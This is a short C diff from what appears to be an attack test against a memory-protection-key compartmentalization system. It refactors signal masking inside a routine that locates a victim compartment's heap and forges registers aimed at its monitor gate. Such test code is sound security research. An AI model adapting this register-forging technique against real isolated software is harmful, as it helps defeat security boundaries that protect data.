@@ -37,15 +37,13 @@ static word way_in(void)
 
 ATTACK
 {
-    sigset_t all;
-    sigfillset(&all);
     while (granule < IA2_GRANULES && state()->owner[granule] != victim_key)
         granule++;
     if (granule == IA2_GRANULES)
         cannot("the victim has no heap");
     thread(watch, NULL);
     usleep(20000);
-    SYS(SYS_rt_sigprocmask, SIG_SETMASK, &all, 0, 8);
+    block_signals();
     struct registers forged = {.rax = IA2_PKRU_MONITOR,
                                .r10 = (word)descriptor_of(victim_key)->monitor_gate,
                                .r15 = *slot() << IA2_RECORD_SHIFT,
